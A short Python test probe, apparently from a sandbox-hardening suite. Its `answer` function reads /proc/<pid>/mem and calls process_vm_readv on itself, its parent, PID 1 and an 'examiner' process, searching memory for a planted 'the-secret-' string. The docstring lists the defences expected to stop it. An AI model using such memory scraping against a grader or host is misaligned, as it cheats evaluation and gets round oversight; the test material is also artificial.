"""Reads the raw memory of itself, its parent and the examiner.

Tries: /proc/<pid>/mem, process_vm_readv and a scan of the own heap through ctypes.
Stopped by: /proc is hidden, other processes are in another namespace, seccomp; the own memory holds no secret.
"""

import ctypes
import os

C = ctypes.CDLL(None)


def answer(x):
    for pid in ("self", 1, os.getppid(), EXAMINER):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if "rw" in line and end - begin < 1 << 24:
                        memory.seek(begin)
                        data = memory.read(end - begin)
                        at = data.find(b"the-secret-")
                        print(data[at:at + 60] if at >= 0 else "")
        except (OSError, ValueError):
            continue
    buffer = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_void_p * 2)(id(answer), 64)
    C.process_vm_readv(EXAMINER, local, 1, remote, 1, 0)
    return x
